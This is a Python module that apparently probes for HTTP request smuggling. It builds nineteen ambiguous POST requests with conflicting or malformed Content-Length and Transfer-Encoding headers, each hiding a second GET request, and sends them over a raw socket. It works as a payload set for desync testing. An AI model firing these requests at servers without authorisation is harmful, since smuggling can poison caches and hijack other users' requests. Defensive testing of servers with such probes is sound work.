"""Requests that two servers could read in two ways: inside the one stands another, for `WANTED`."""

import socket
from collections.abc import Callable

WANTED = "/manifest.webmanifest"
SILENCE_SECONDS = 3

_INSIDE = f"GET {WANTED} HTTP/1.1\r\nHost: {{host}}\r\n\r\n"

# A name → what ends the head of the request, and what comes after it: the request inside,
# or the same as a `{piece}` of a body in pieces. `{length}` is how long all of that is.
AMBIGUOUS = {
    "a length and pieces": ("Content-Length: {length}\r\nTransfer-Encoding: chunked", "0\r\n\r\n{inside}"),
    "pieces and a length": ("Transfer-Encoding: chunked\r\nContent-Length: 4", "{piece}"),
    "two lengths": ("Content-Length: 0\r\nContent-Length: {length}", "{inside}"),
    "two lengths in one": ("Content-Length: 0, {length}", "{inside}"),
    "a length with a sign": ("Content-Length: +0", "{inside}"),
    "a length below nothing": ("Content-Length: -1", "{inside}"),
    "a length of another base": ("Content-Length: 0x0", "{inside}"),
    "a length with digits between": ("Content-Length: 0_0", "{inside}"),
    "an unknown coding": ("Content-Length: 0\r\nTransfer-Encoding: xchunked", "{inside}"),
    "two codings": ("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", "0\r\n\r\n{inside}"),
    "a coding that is none": ("Transfer-Encoding: chunked, identity", "0\r\n\r\n{inside}"),
    "a coding after a strange blank": ("Transfer-Encoding:\x0bchunked\r\nContent-Length: 0", "{inside}"),
    "a size with a sign": ("Transfer-Encoding: chunked", "+0\r\n\r\n{inside}"),
    "a size of another base": ("Transfer-Encoding: chunked", "0x0\r\n\r\n{inside}"),
    "a size that is no number": ("Transfer-Encoding: chunked", "zz\r\n{inside}"),
    "a piece longer than it says": ("Transfer-Encoding: chunked", "2\r\n{}{inside}0\r\n\r\n"),
    "a NUL in a header": ("X-Note: a\x00b\r\nContent-Length: 0", "{inside}"),
    "a header without a name": (": a\r\nContent-Length: 0", "{inside}"),
    "a line of a header alone": ("Transfer-Encoding\r\nContent-Length: 0", "{inside}"),
}


def request(name: str, host: str) -> bytes:
    """The one of this name. Should a part of it be taken for the whole, another request stands behind it."""
    head, body = AMBIGUOUS[name]
    inside = _INSIDE.replace("{host}", host)
    body = body.replace("{inside}", inside).replace("{piece}", f"{len(inside):x}\r\n{inside}\r\n0\r\n\r\n")
    head = head.replace("{length}", str(len(body)))
    start = f"POST /api/login HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
    return f"{start}{head}\r\n\r\n{body}".encode("latin-1")


def two_plain_ones(host: str) -> bytes:
    """What the one behind it looks like where it is a request of its own."""
    return (f"GET /healthz HTTP/1.1\r\nHost: {host}\r\n\r\n" + _INSIDE.replace("{host}", host)).encode()


def said(opened: socket.socket, sent: bytes) -> bytes:
    """All that comes back until the line is closed, or silent for a while."""
    opened.settimeout(SILENCE_SECONDS)
    opened.sendall(sent)
    return b"".join(iter(_reader(opened), b""))


def _reader(opened: socket.socket) -> Callable[[], bytes]:
    def read() -> bytes:
        try:
            return opened.recv(1 << 16)
        except (TimeoutError, ConnectionResetError):
            return b""

    return read
